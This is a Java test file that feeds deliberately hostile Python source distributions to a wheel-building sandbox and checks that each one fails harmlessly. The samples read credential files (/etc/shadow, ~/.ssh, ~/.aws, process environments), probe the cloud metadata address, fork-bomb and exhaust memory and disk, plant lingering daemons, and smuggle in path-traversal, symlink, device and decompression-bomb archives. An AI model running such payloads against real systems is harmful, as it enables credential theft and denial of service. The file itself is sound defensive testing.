package dev.flotilla.controller.wheels.build;

import static org.assertj.core.api.Assertions.assertThat;

import dev.flotilla.controller.wheels.FailedBuild;
import dev.flotilla.controller.wheels.WantedWheel;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Sdists that want something else than to be built, in real sandboxes of this computer. */
@Tag("real")
class HostileSdistsTest {
    private static final String LIMITS = "time = 2m, memory = 256 MiB, processes = 64, disk = 48 MiB, output = 1 MiB";
    private static final String SOON = "time = 4s, memory = 256 MiB, processes = 64, disk = 48 MiB, output = 1 MiB";

    @TempDir
    private Path folder;

    private final Map<String, List<String>> expected = new LinkedHashMap<>();

    /** In which of reason and log one of these words has to stand. */
    private void hostile(Workshop shop, String name, String code, String... words) throws IOException {
        expected.put(name, List.of(words));
        shop.offer(name + "-1.0.tar.gz", TestSdists.with(name, "1.0", code));
    }

    private void archive(Workshop shop, String name, TestSdists.Filling filling, String... words) throws IOException {
        expected.put(name, List.of(words));
        shop.offer(name + "-1.0.tar.gz", TestSdists.of(name, "1.0", TestSdists.own("", ""), filling));
    }

    private static TestSdists.Filling link(String name, String target) {
        return (tar, root) -> {
            var entry = new TarArchiveEntry(root + name, TarConstants.LF_SYMLINK);
            entry.setLinkName(target);
            tar.putArchiveEntry(entry);
            tar.closeArchiveEntry();
        };
    }

    private void judge(Workshop shop, String limits) throws Exception {
        List<WantedWheel> wanted = new ArrayList<>();
        for (String name : expected.keySet()) {
            wanted.add(shop.wanted(name, "1.0"));
        }
        // All that got through is named at once.
        var softly = new SoftAssertions();
        WheelBuilds.Summary summary = shop.build(limits, false, wanted);
        softly.assertThat(summary.unready()).isEmpty();
        softly.assertThat(summary.built()).as("wheels of hostile sdists").isEmpty();
        softly.assertThat(summary.failed()).hasSameSizeAs(wanted);
        for (FailedBuild failed : summary.failed()) {
            String log = Files.readString(failed.log().orElseThrow(), StandardCharsets.ISO_8859_1);
            String name = failed.wanted().sdist().project().normal();
            softly.assertThat(expected.get(name))
                    .as("%s: %s%n%s", name, failed.reason(), log.substring(0, Math.min(log.length(), 4000)))
                    .anyMatch(word -> failed.reason().contains(word) || log.contains(word));
            softly.assertThat(log).doesNotContain("STOLEN").hasSizeLessThan((1 << 20) + 4000);
            softly.assertThat(failed.reason()).hasSizeLessThan(700).doesNotContain("\n");
        }
        softly.assertThat(shop.out().read().built()).isEmpty();
        softly.assertThat(shop.left()).isEmpty();
        softly.assertAll();
    }

    @Test
    void whateverAnSdistWantsItGetsNothingAndLeavesNothing() throws Exception {
        String mark = "hostile-" + UUID.randomUUID();
        Path secret = Files.writeString(folder.resolve("secret"), "STOLEN");
        try (var shop = new Workshop(folder)) {
            hostile(shop, "credentials", """
                    def build_wheel(folder, *_):
                        import glob
                        places = ["%s", "/etc/shadow", "/etc/ssh", "/root", "/run", "/var/run", "/srv"]
                        places += glob.glob("/home/*") + glob.glob("/proc/*/environ") + glob.glob("/sys/*") + glob.glob("/var/*/*")
                        places += [os.path.expanduser("~/" + name) for name in (".ssh", ".aws", ".netrc", ".config")]
                        for place in places:
                            try:
                                text = open(place, "rb").read() if not os.path.isdir(place) else repr(os.listdir(place)).encode()
                            except OSError:
                                continue
                            if place.startswith("/proc/"):
                                continue
                            if not os.path.realpath(place).startswith("/build/"):
                                print("STOLEN", place, text[:80])
                        print([name for name in os.environ if "KEY" in name or "TOKEN" in name or "SSH" in name])
                        raise Exception("nothing was there")
                    """.formatted(secret), "nothing was there");
            hostile(shop, "network", """
                    def build_wheel(folder, *_):
                        import socket, urllib.request
                        for address in (("127.0.0.1", %d), ("169.254.169.254", 80), ("192.0.2.1", 443)):
                            try:
                                socket.create_connection(address, 3)
                                print("STOLEN connection", address)
                            except OSError as failed:
                                print(address, failed)
                        try:
                            print("STOLEN name", socket.getaddrinfo("pypi.org", 443))
                        except OSError as failed:
                            print(failed)
                        raise Exception("nobody is there")
                    """.formatted(shop.port()), "nobody is there");
            hostile(shop, "forks", """
                    def build_wheel(folder, *_):
                        while True:
                            os.fork()
                    """, "wanted more than 64 processes", "Resource temporarily unavailable");
            hostile(shop, "memory", """
                    def build_wheel(folder, *_):
                        hoard = []
                        while True:
                            hoard.append(bytearray(8 << 20))
                    """, "wanted more than 256 MiB of memory", "MemoryError");
            hostile(shop, "disk", """
                    def build_wheel(folder, *_):
                        for place in ("/tmp/a", "/var/tmp/b", folder + "/c"):
                            with open(place, "wb") as file:
                                while True:
                                    file.write(bytes(1 << 20))
                    """, "wrote more than 48 MiB");
            hostile(shop, "outside", """
                    def build_wheel(folder, *_):
                        for place in ("/usr/STOLEN", "/etc/STOLEN", "/dev/STOLEN", "/STOLEN", "/proc/sys/kernel/hostname", "%s/STOLEN"):
                            try:
                                open(place, "w").write("x")
                                print("STOLEN", place)
                            except OSError as failed:
                                print(failed.strerror)
                        try:
                            os.unlink("%s")
                            print("STOLEN", "unlink")
                        except OSError as failed:
                            print(failed.strerror)
                        raise Exception("nothing was written")
                    """.formatted(folder, secret), "nothing was written");
            hostile(shop, "rights", """
                    def build_wheel(folder, *_):
                        import ctypes, subprocess
                        print(os.getuid(), open("/proc/self/status").read())
                        assert os.getuid() == 1000
                        for call in (["unshare", "-Ur", "true"], ["mount", "-t", "tmpfs", "none", "/usr"], ["su", "-c", "true"]):
                            try:
                                if subprocess.call(call, stdin=subprocess.DEVNULL) == 0:
                                    print("STOLEN", call)
                            except OSError as failed:
                                print(failed)
                        if "CapEff:\\t0000000000000000" not in open("/proc/self/status").read():
                            print("STOLEN", "capabilities")
                        try:
                            os.kill(-1, 0) or print("others:", [p for p in os.listdir("/proc") if p.isdigit()])
                        except OSError as failed:
                            print(failed)
                        raise Exception("no rights were had")
                    """, "no rights were had");
            hostile(shop, "daemons", """
                    def build_wheel(folder, *_):
                        import subprocess
                        for _ in range(3):
                            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)", "%s"], start_new_session=True)
                        if os.fork() == 0:
                            os.setsid()
                            if os.fork() == 0:
                                os.execv(sys.executable, [sys.executable, "-c", "import signal, time\\nfor n in range(1, 64):\\n  try: signal.signal(n, signal.SIG_IGN)\\n  except (OSError, ValueError): pass\\ntime.sleep(1000)", "%s"])
                            os._exit(0)
                        raise Exception("they are left behind")
                    """.formatted(mark, mark), "they are left behind");
            hostile(shop, "forger", """
                    def build_wheel(folder, *_):
                        for process in os.listdir("/proc"):
                            if process.isdigit():
                                for number in range(3, 40):
                                    try:
                                        with open("/proc/%s/fd/%d" % (process, number), "wb") as file:
                                            file.write(b'{"wheel": "../../forger-1.0-py3-none-any.whl", "repaired": false}\\nPK')
                                    except OSError:
                                        pass
                        raise Exception("who knows")
                    """, "who knows", "no wheel's name", "can't be read");
            hostile(
                    shop,
                    "name",
                    "def build_wheel(folder, *_):\n    return wheel(folder, 'name', '1.0', said='other')\n",
                    "METADATA says that its name is other");
            hostile(
                    shop,
                    "version",
                    "def build_wheel(folder, *_):\n    return wheel(folder, 'version', '2.0')\n",
                    "isn't a wheel of what was asked for");
            hostile(
                    shop,
                    "other",
                    "def build_wheel(folder, *_):\n    return wheel(folder, 'numpy', '1.0')\n",
                    "isn't a wheel of what was asked for");
            hostile(
                    shop,
                    "escape",
                    "def build_wheel(folder, *_):\n    return wheel(folder, 'escape', '1.0', [('../../../evil.py', '')])\n",
                    "leads out of its folder");
            hostile(
                    shop,
                    "twice",
                    "import warnings\nwarnings.simplefilter('ignore')\ndef build_wheel(folder, *_):\n    return wheel(folder, 'twice', '1.0', [('a.py', 'one'), ('a.py', 'two')])\n",
                    "is in the archive twice");
            hostile(
                    shop,
                    "symlink",
                    "def build_wheel(folder, *_):\n    link = zipfile.ZipInfo('a')\n    link.create_system = 3\n    link.external_attr = 0o120777 << 16\n    return wheel(folder, 'symlink', '1.0', [(link, '/etc/passwd')])\n",
                    "links and devices");
            hostile(
                    shop,
                    "path",
                    "def build_wheel(folder, *_):\n    return '../../path-1.0-py3-none-any.whl'\n",
                    "leads out of its folder");
            hostile(
                    shop,
                    "pointer",
                    "def build_wheel(folder, *_):\n    os.symlink('/usr/bin/python3', folder + '/pointer-1.0-py3-none-any.whl')\n    return 'pointer-1.0-py3-none-any.whl'\n",
                    "it isn't there");
            hostile(
                    shop,
                    "needs",
                    "def get_requires_for_build_wheel(*_):\n    return ['evil @ http://192.0.2.1/evil.tar.gz']\n",
                    "only what the index has is brought");
            hostile(
                    shop,
                    "absent",
                    "def get_requires_for_build_wheel(*_):\n    return ['nobody-has-this']\n",
                    "isn't in the index");
            hostile(
                    shop,
                    "itself",
                    "def get_requires_for_build_wheel(*_):\n    return ['itself']\n",
                    "it needs itself");
            archive(
                    shop,
                    "bomb",
                    (tar, root) -> {
                        var entry = new TarArchiveEntry(root + "zeros");
                        entry.setSize(128L << 20);
                        tar.putArchiveEntry(entry);
                        for (int i = 0; i < 128; i++) {
                            tar.write(new byte[1 << 20]);
                        }
                        tar.closeArchiveEntry();
                    },
                    "unpacks to more than");
            archive(shop, "linkout", link("a", "../../../etc"), "leads to '../../../etc'", "leads out of its folder");
            archive(shop, "linkabsolute", link("a", "/etc"), "which leads to '/etc'");
            archive(
                    shop,
                    "dotdot",
                    (tar, root) -> {
                        tar.putArchiveEntry(new TarArchiveEntry(root + "../../evil", true));
                        tar.closeArchiveEntry();
                    },
                    "leads out of its folder");
            archive(
                    shop,
                    "through",
                    (tar, root) -> {
                        link("a", "b").fill(tar, root);
                        tar.putArchiveEntry(new TarArchiveEntry(root + "a/evil"));
                        tar.closeArchiveEntry();
                    },
                    "through a link");
            archive(
                    shop,
                    "device",
                    (tar, root) -> {
                        tar.putArchiveEntry(new TarArchiveEntry(root + "null", TarConstants.LF_CHR));
                        tar.closeArchiveEntry();
                    },
                    "neither file nor folder");
            expected.put("nogzip", List.of("no archive that can be read"));
            shop.offer("nogzip-1.0.tar.gz", "this is none".getBytes(StandardCharsets.UTF_8));

            judge(shop, LIMITS);
            assertThat(shop.asked).allMatch(path -> path.startsWith("/simple/") || path.startsWith("/files/"));
            assertThat(Workshop.running(mark)).isEmpty();
            assertThat(secret).hasContent("STOLEN");
            assertThat(folder.resolve("STOLEN")).doesNotExist();
        }
    }

    @Test
    void whatHasNoEndIsEnded() throws Exception {
        String mark = "endless-" + UUID.randomUUID();
        try (var shop = new Workshop(folder)) {
            hostile(shop, "sleeps", """
                    def build_wheel(folder, *_):
                        import subprocess
                        subprocess.call([sys.executable, "-c", "import time; time.sleep(1000)", "%s"])
                    """.formatted(mark), "took longer than 4 s");
            hostile(shop, "prints", """
                    def build_wheel(folder, *_):
                        while True:
                            print("x" * 4000)
                    """, "more than the 1 MiB that are kept");
            hostile(shop, "closes", """
                    def build_wheel(folder, *_):
                        os.closerange(0, 100)
                        while True:
                            pass
                    """, "took longer than 4 s");
            judge(shop, SOON);
            assertThat(Workshop.running(mark)).isEmpty();
        }
    }
}
